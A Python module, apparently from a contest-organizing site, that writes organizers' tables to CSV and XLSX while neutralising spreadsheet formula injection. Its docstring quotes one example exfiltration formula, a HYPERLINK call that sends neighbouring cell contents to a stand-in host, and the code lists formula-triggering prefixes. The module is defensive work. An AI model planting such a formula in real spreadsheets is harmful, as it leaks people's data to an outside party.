"""Tables for organizers' spreadsheets (CSV and XLSX), safe to open in Excel or WPS.

Text from contestants (titles, collectives) can start with `=`, `+`, `-`, `@`, a tab or a
carriage return, which spreadsheet programs run as a formula: `=HYPERLINK("http://x/?"&C2)`
would send the neighbouring cells away when clicked. Every text cell that starts so is
neutralised (OWASP's CSV-injection rule): in CSV it gets a leading apostrophe, which the
programs hide; in XLSX it is stored as a string cell, never as a formula.

CSV carries the table alone, so any program can read it; the 说明 (method, panels, export
time, the 公示期) is the XLSX's second sheet.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Sequence
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NOTES_SHEET = "说明"
NOTES_HEADER = ("项目", "说明")
MIMETYPES = {
    "csv": "text/csv; charset=utf-8",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}


def entry_number(number: int) -> str:
    """An entry's number as the site writes it (0004): text, so a spreadsheet keeps the zeros."""
    return f"{number:04d}"


def is_formula_like(value: Any) -> bool:
    """Would a spreadsheet program read this cell as a formula?"""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_cell(value: Any) -> Any:
    """The value as a CSV cell: formula-like text behind an apostrophe."""
    return "'" + value if is_formula_like(value) else value


def to_csv(header: Sequence[str], body: Sequence[Sequence[Any]]) -> str:
    """CSV with a byte-order mark, which Excel needs to open UTF-8 Chinese."""
    out = io.StringIO()
    out.write("\ufeff")
    writer = csv.writer(out)
    writer.writerow([csv_cell(v) for v in header])
    writer.writerows([csv_cell(v) for v in line] for line in body)
    return out.getvalue()


def to_xlsx(
    header: Sequence[str],
    body: Sequence[Sequence[Any]],
    title: str,
    notes: Sequence[tuple[str, str]] = (),
) -> bytes:
    """A sheet named `title`, and with `notes` a second sheet 说明 of (item, text) lines.

    Text is always a string cell, never a formula, and formatted as text (`@`), so a number
    written as text, such as entry 0004, keeps its zeros when Excel or WPS opens the file.
    """
    return to_xlsx_sheets([(title, header, body)], notes)


def to_xlsx_sheets(
    sheets: Sequence[tuple[str, Sequence[str], Sequence[Sequence[Any]]]],
    notes: Sequence[tuple[str, str]] = (),
) -> bytes:
    """Several sheets of (title, header, body), as `to_xlsx` writes one, then the 说明."""
    from openpyxl import Workbook
    from openpyxl.styles import Alignment

    book = Workbook()
    for index, (title, header, body) in enumerate(sheets):
        sheet = book.worksheets[0] if index == 0 else book.create_sheet()
        sheet.title = title
        _append(sheet, [header, *body])
    if notes:
        about = book.create_sheet(NOTES_SHEET)
        _append(about, [NOTES_HEADER, *notes])
        about.column_dimensions["A"].width = 30
        about.column_dimensions["B"].width = 90
        for cell in about["B"]:
            cell.alignment = Alignment(wrap_text=True, vertical="top")
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _append(sheet: Any, lines: Sequence[Sequence[Any]]) -> None:
    for line in lines:
        sheet.append(list(line))
        for cell in sheet[sheet.max_row]:
            # openpyxl turns any string starting with "=" into a formula cell.
            if isinstance(cell.value, str):
                cell.data_type = "s"
                cell.number_format = "@"
